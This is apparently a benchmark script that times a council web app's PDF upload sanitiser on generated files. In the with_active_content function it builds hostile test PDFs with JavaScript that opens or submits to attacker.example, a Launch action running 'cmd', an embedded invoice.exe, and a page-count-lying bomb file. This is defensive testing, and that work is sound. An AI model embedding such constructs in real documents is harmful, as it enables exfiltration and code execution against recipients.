"""Benchmark: checking an uploaded PDF (council.uploads.inspect_upload) against the cost floor.

Run with `make bench`, or on its own (no database is used):

    .venv/bin/python benchmarks/uploads.py

Three files are made at run time, the same on every run:

  clean    a 300-page report as WeasyPrint makes it (tagged, a table and paragraphs per page)
  active   the same report with active content: JavaScript run on opening and on every page, a
           link that launches a program on every page, a submit button, attached and embedded files,
           a JavaScript bookmark and an XFA form
  huge     50,000 pages sharing one content stream, about 460 KB: the file in issue 11 (finding 9)
           that was accepted and then took a pack build 129 s and 700 MB
  liar     the same pages, its page tree claiming 1 page (refused by counting, which stops at the limit)

Each is checked with ``inspect_upload`` (the clean report is stored as it is; the active one is
cleaned and saved; the huge one is refused by DOCUMENT_MAX_PAGES) and, as its peer in the same run,
opened and saved by pikepdf with nothing else done: the least any check that rewrites the file can
cost. Timings alternate between the two and are medians of BENCH_UPLOAD_REPEAT runs (default 7).
Prints a table and one summary line.
"""

import io
import os
import statistics
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "council.settings.test")

import django  # noqa: E402

django.setup()

import pikepdf  # noqa: E402
from django.conf import settings  # noqa: E402
from django.core.files.uploadedfile import SimpleUploadedFile  # noqa: E402
from pikepdf import Array, Dictionary, Name, String  # noqa: E402

from council.errors import RuleError  # noqa: E402
from council.uploads import inspect_upload  # noqa: E402

REPEAT = int(os.environ.get("BENCH_UPLOAD_REPEAT", "7"))
REPORT_PAGES = 300
HUGE_PAGES = 50_000


def report_pdf(pages: int) -> bytes:
    """A council report as WeasyPrint makes it: one section per page, a paragraph and a small table."""
    import weasyprint

    sections = []
    for number in range(1, pages + 1):
        rows = "".join(
            f"<tr><td>Ward {row}</td><td>£{(number * 7919 + row * 104729) % 90000 + 10000:,}</td></tr>"
            for row in range(1, 9)
        )
        sections.append(
            f"<section><h2>{number}. Commissioning review, section {number}</h2>"
            f"<p>{'The committee considered the options appraisal and the savings claimed. ' * 12}</p>"
            f"<table><tr><th>Ward</th><th>Saving</th></tr>{rows}</table></section>"
        )
    html = (
        "<html lang='en-GB'><head><title>Report</title><style>section { break-after: page } "
        "@page { size: A4 }</style></head><body>" + "".join(sections) + "</body></html>"
    )
    return weasyprint.HTML(string=html).write_pdf(pdf_tags=True)


def _script(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def with_active_content(content: bytes) -> bytes:
    pdf = pikepdf.open(io.BytesIO(content))
    pdf.Root.OpenAction = pdf.make_indirect(_script("app.launchURL('https://attacker.example/')"))
    pdf.Root.AA = Dictionary(WC=_script("app.alert('closing')"))
    pdf.attachments["payroll.xlsm"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04" + b"\x00" * 4096)
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("init"), pdf.make_indirect(_script("app.alert(1)"))]))
    hidden = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 4096, filename="invoice.exe")
    for number, page in enumerate(pdf.pages):
        page.obj.AA = Dictionary(O=_script(f"this.submitForm('https://attacker.example/{number}')"))
        launch = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 20, 300, 40]), A=Dictionary(S=Name.Launch, F="cmd")
        )
        annotations = list(page.obj.get("/Annots", Array())) + [pdf.make_indirect(launch)]
        if number == 0:
            annotations.append(
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 60, 92, 80]), FS=hidden.obj
                    )
                )
            )
        page.obj.Annots = Array(annotations)
    submit = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=Array([72, 100, 200, 120]),
            A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example")), AA=Dictionary(D=_script("1")),
        )
    )  # fmt: skip
    pdf.pages[1].obj.Annots.append(submit)
    pdf.Root.AcroForm = Dictionary(Fields=Array([submit]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    bookmark = pdf.make_indirect(Dictionary(Title=String("Introduction"), A=_script("app.alert(4)")))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=bookmark, Last=bookmark, Count=1))
    bookmark.Parent = pdf.Root.Outlines
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def huge_pdf(pages: int, declared: int | None = None) -> bytes:
    pdf = pikepdf.new()
    content = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Annex) Tj ET")
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    resources = pdf.make_indirect(Dictionary(Font=Dictionary(F1=font)))
    tree = pdf.Root.Pages
    page = {"Type": Name.Page, "MediaBox": [0, 0, 595, 842], "Contents": content, "Resources": resources}
    tree.Kids = Array([pdf.make_indirect(Dictionary(Parent=tree, **page)) for _ in range(pages)])
    tree.Count = pages
    out = io.BytesIO()
    if declared is None:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return out.getvalue()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)  # qpdf writes the true count
    truth = f"/Count {pages}".encode()
    return out.getvalue().replace(truth, f"/Count {declared}".encode().ljust(len(truth)))


def inspect(content: bytes) -> str:
    try:
        inspected = inspect_upload(SimpleUploadedFile("report.pdf", content, content_type="application/pdf"))
    except RuleError as refused:
        return f"refused: {refused.message}"
    return "cleaned" if inspected.cleaned else "stored as uploaded"


def open_and_save(content: bytes) -> None:
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(io.BytesIO())


def timed(function, content) -> tuple[float, object]:
    started = time.perf_counter()
    result = function(content)
    return time.perf_counter() - started, result


def measure(content: bytes) -> dict:
    """Median seconds of inspect_upload and of its peer, alternating, and what inspect_upload did."""
    inspect(content)  # warm: imports, qpdf's first allocations
    checks, floors, outcome = [], [], ""
    for _ in range(REPEAT):
        seconds, outcome = timed(inspect, content)
        checks.append(seconds)
        floors.append(timed(open_and_save, content)[0])
    return {"check": statistics.median(checks), "floor": statistics.median(floors), "outcome": outcome}


def main():
    started = time.perf_counter()
    clean = report_pdf(REPORT_PAGES)
    active = with_active_content(clean)
    huge = huge_pdf(HUGE_PAGES)
    liar = huge_pdf(HUGE_PAGES, declared=1)
    print(
        f"inputs: a {REPORT_PAGES}-page report ({len(clean) / 1024:,.0f} KB), with active content "
        f"({len(active) / 1024:,.0f} KB), {HUGE_PAGES:,} pages ({len(huge) / 1024:,.0f} KB; "
        f"claiming 1 page, {len(liar) / 1024:,.0f} KB), "
        f"made in {time.perf_counter() - started:.1f} s; DOCUMENT_MAX_PAGES={settings.DOCUMENT_MAX_PAGES}, "
        f"median of {REPEAT}"
    )
    rows = {
        f"{REPORT_PAGES}-page report, clean": measure(clean),
        f"{REPORT_PAGES}-page report, active content": measure(active),
        f"{HUGE_PAGES:,} pages": measure(huge),
        f"{HUGE_PAGES:,} pages claiming 1": measure(liar),
    }
    print(f"\n{'file':<36}{'inspect_upload':>16}{'open+save':>12}{'ratio':>8}  outcome")
    for label, row in rows.items():
        print(
            f"{label:<36}{row['check']:>14.3f} s{row['floor']:>10.3f} s{row['check'] / row['floor']:>7.2f}x"
            f"  {row['outcome'][:70]}"
        )
    clean_row, active_row, huge_row, liar_row = rows.values()
    ok = (
        clean_row["outcome"] == "stored as uploaded"
        and active_row["outcome"] == "cleaned"
        and huge_row["outcome"].startswith("refused")
        and liar_row["outcome"].startswith("refused")
    )
    print(
        f"\nuploads: {REPORT_PAGES}-page PDF checked in {clean_row['check']:.3f} s "
        f"(pikepdf open+save {clean_row['floor']:.3f} s), cleaned of active content in {active_row['check']:.3f} s "
        f"({active_row['floor']:.3f} s), {HUGE_PAGES:,}-page PDF refused in {huge_row['check']:.3f} s "
        f"({huge_row['floor']:.3f} s; claiming 1 page: {liar_row['check']:.3f} s)"
        f"{'' if ok else '  FAIL: an outcome was not as expected'}"
    )
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
